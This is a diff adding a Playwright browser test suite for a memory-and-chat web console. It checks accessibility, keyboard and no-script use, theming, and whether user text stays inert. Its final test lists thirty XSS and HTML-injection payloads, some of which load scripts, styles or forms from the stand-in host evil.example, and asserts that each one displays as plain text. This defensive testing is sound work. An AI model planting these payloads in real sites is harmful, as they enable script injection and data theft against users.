@@ -1,0 +1,235 @@
+"""The console in a real Chromium: nothing is in anybody's way, and words never become code."""
+
+from __future__ import annotations
+
+from collections.abc import AsyncIterator
+from uuid import UUID
+
+import pytest
+from playwright.async_api import Browser
+
+from nightcrew.domain.memory import Kind
+from nightcrew.store.database import Database
+from tests.browser.window import Stage, on_a_port, window
+from tests.builders import CREW, memory
+from tests.console import a_change, dreamt, furnish
+from tests.desk import USER
+from tests.e2e.door import a_model
+
+NEEDS = {
+    "search": {"use": True, "query": "교토 날씨", "why": "날씨는 밖에서 봐야 안다"},
+    "memory": {"use": True, "act": "recall", "query": "교토", "why": "계획을 알아야 한다"},
+    "cites": ["g1", "g3"],
+}
+PAGES = (
+    "/",
+    "/people/{user}/memories",
+    "/people/{user}/memories/{memory}",
+    "/people/{user}/memories/{memory}/edit",
+    "/people/{user}/memories/{memory}/erase",
+    "/people/{user}/dreams",
+    "/dreams/{dream}",
+    "/dreams/{dream}/revert",
+    "/people/{user}/follow-ups",
+    "/people/{user}/follow-ups/{follow_up}/snooze",
+    "/chat",
+    "/people/{user}/chat",
+    "/people/{user}/chat/" + CREW + "?turn=t1",
+)
+
+
+@pytest.fixture(scope="module")
+async def stage(shared_database: Database) -> AsyncIterator[Stage]:
+    model = a_model(judge_needs=NEEDS, reply="12월의 교토는 쌀쌀해요.")
+    async with on_a_port(shared_database, model, time_travel=True) as opened:
+        await furnish(opened.console)
+        await opened.console.door.say("교토 날씨 어때요?", user=USER, turn_id="t1")
+        yield opened
+
+
+async def paths(stage: Stage) -> list[str]:
+    console = stage.console
+    tenant = console.desk.tenant
+    found = await console.desk.memories.list(tenant, USER)
+    dreams = await console.desk.dreams.list(tenant)
+    promises = await console.door.app.keep_follow_ups.list(tenant, USER)
+    ids = {
+        "user": await console.user(),
+        "memory": next(each.id for each in found.items if each.previous or each.version > 1),
+        "dream": next(each.id for each in dreams.items if each.outcome == "applied"),
+        "follow_up": promises.items[0].id,
+    }
+    return [path.format(**ids) for path in PAGES]
+
+
+@pytest.mark.parametrize(
+    ("language", "theme", "width"), [("ko", "light", 1280), ("en", "dark", 360)]
+)
+async def test_every_page_is_whole_without_a_complaint_of_the_browser_or_of_axe(
+    browser: Browser, stage: Stage, language: str, theme: str, width: int
+) -> None:
+    async with window(browser, stage, language=language, theme=theme, width=width) as opened:
+        for path in await paths(stage):
+            await opened.open(path)
+            await opened.page.evaluate(
+                "document.querySelectorAll('details').forEach(each => each.open = true)"
+            )
+
+            assert await opened.serious_findings() == [], path
+            assert await opened.overflow() == 0, path
+            assert opened.complaints == [], path
+            assert await opened.page.locator("h1").count() == 1, path
+            assert await opened.page.evaluate("document.documentElement.lang") == language
+
+
+async def forgettable(stage: Stage, words: str) -> tuple[UUID, UUID]:
+    kept = await stage.console.desk.learn(memory(words))
+    return await stage.console.user(), kept.id
+
+
+async def test_a_memory_is_forgotten_in_its_place_by_keyboard_alone(
+    browser: Browser, stage: Stage
+) -> None:
+    user, kept = await forgettable(stage, "아침에 달리기를 한다")
+    async with window(browser, stage, language="en") as opened:
+        page = opened.page
+        await opened.open(f"/people/{user}/memories")
+        before = int(await page.inner_text("#count-off"))
+        card = page.locator(f"#memory-{kept}")
+
+        await card.get_by_role("link", name="Forget").focus()
+        await page.keyboard.press("Enter")
+        await page.locator(f"#memory-{kept}.asking:focus").wait_for()
+        await page.keyboard.press("Tab")
+        await page.keyboard.press("Enter")
+        await page.locator(f"#memory-{kept}.off:focus").wait_for()
+
+        assert page.url.endswith("/memories")
+        assert "forgotten" in await page.inner_text("#notices")
+        assert int(await page.inner_text("#count-off")) == before + 1
+        assert opened.complaints == []
+
+
+async def test_every_act_works_without_a_script_too(browser: Browser, stage: Stage) -> None:
+    user, kept = await forgettable(stage, "저녁에 산책을 한다")
+    async with window(browser, stage, language="en", java_script_enabled=False) as opened:
+        page = opened.page
+        await opened.open(f"/people/{user}/memories")
+
+        await page.locator(f"#memory-{kept}").get_by_role("link", name="Forget").click()
+        await page.get_by_role("button", name="Forget it").click()
+
+        assert page.url.endswith("/memories?done=forget")
+        assert await page.locator(f"#group-off #memory-{kept}").count() == 1
+
+
+async def test_a_reply_comes_into_the_talk_with_its_reasons_and_the_field_is_free_again(
+    browser: Browser, stage: Stage
+) -> None:
+    user = await stage.console.user()
+    async with window(browser, stage, language="ko") as opened:
+        page = opened.page
+        await opened.open(f"/people/{user}/chat/{CREW}")
+        before = await page.locator(".said").count()
+
+        await page.fill("#message", "<b>굵게</b> 말해 줘요")
+        await page.get_by_role("button", name="보내기").click()
+        await page.locator(".said").nth(before + 1).wait_for()
+
+        assert (
+            await page.locator(".said .bubble").nth(before).inner_text() == "<b>굵게</b> 말해 줘요"
+        )
+        assert await page.locator(".explain[open]").count() == 1
+        assert await page.input_value("#message") == ""
+        await page.locator("#message:focus").wait_for()
+        assert opened.complaints == []
+
+
+async def test_the_first_stop_of_the_keyboard_leads_past_the_menu(
+    browser: Browser, stage: Stage
+) -> None:
+    async with window(browser, stage, language="en") as opened:
+        await opened.open("/")
+        await opened.page.keyboard.press("Tab")
+        await opened.page.keyboard.press("Enter")
+
+        assert await opened.page.evaluate("document.activeElement.id") == "content"
+
+
+async def test_the_dark_page_is_dark_also_where_the_system_is_light(
+    browser: Browser, stage: Stage
+) -> None:
+    async with window(browser, stage, language="en", theme="light") as opened:
+        page, colour = opened.page, "getComputedStyle(document.body).backgroundColor"
+        await opened.open("/")
+        light = await page.evaluate(colour)
+        await page.get_by_text("View", exact=True).click()
+        await page.get_by_role("button", name="Dark").click()
+        await page.locator("html[data-theme=dark]").wait_for()
+
+        assert await page.evaluate(colour) != light
+
+
+# OWASP's usual ways to turn words into code, and links that would carry words away.
+PAYLOADS = (
+    "<script>alert(1)</script>",
+    "[x](javascript:alert(1)) <svg/onload=alert(1)> {{7*7}} \u202egnp.exe",
+    "<script src=//evil.example/x.js></script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=https://evil.example/a.png>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<body onload=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<form action=https://evil.example><button>x</button></form>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href=https://evil.example/>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>@import 'https://evil.example/x.css'</style>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=https://evil.example/x.svg>",
+    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
+    "<template><img src=x onerror=alert(1)></template>",
+    "<div hx-get=/dreams hx-trigger=load>x</div>",
+    "<div hx-on:htmx:load=alert(1)>x</div>",
+    '"><script>alert(1)</script>',
+    "' onmouseover='alert(1)",
+    "</textarea><script>alert(1)</script>",
+    "</title></style><img src=x onerror=alert(1)>",
+    "[x](javascript:alert(1)) ![y](https://evil.example/b.png)",
+    "&lt;script&gt;alert(1)&lt;/script&gt; \u2028 {{7*7}}",
+)
+
+
+async def test_thirty_ways_to_plant_code_are_shown_as_words_on_every_page(
+    browser: Browser, stage: Stage
+) -> None:
+    desk = stage.console.desk
+    kinds = tuple(Kind)
+    for number, words in enumerate(PAYLOADS):
+        await desk.learn(memory(f"심은 말 {number} {words}", kind=kinds[number % 3]))
+    changes = [
+        a_change(number, text=f"심은 말 {number} {words}", why=words, verdict=words)
+        for number, words in enumerate(PAYLOADS, 1)
+    ]
+    dream = await dreamt(desk, *changes)
+    user = await stage.console.user()
+    for words in PAYLOADS[:6]:
+        await stage.console.door.say(words, user=USER)
+    async with window(browser, stage) as opened:
+        for path, shown in (
+            (f"/people/{user}/memories", PAYLOADS),
+            (f"/dreams/{dream}", PAYLOADS),
+            (f"/people/{user}/chat/{CREW}", PAYLOADS[:6]),
+        ):
+            await opened.open(path)
+            await opened.page.wait_for_timeout(100)
+            text = await opened.page.evaluate("document.querySelector('main').textContent")
+
+            assert [words for words in shown if words not in text] == [], path
+            assert opened.complaints == [], path
+            assert opened.page.url == f"{stage.origin}{path}"
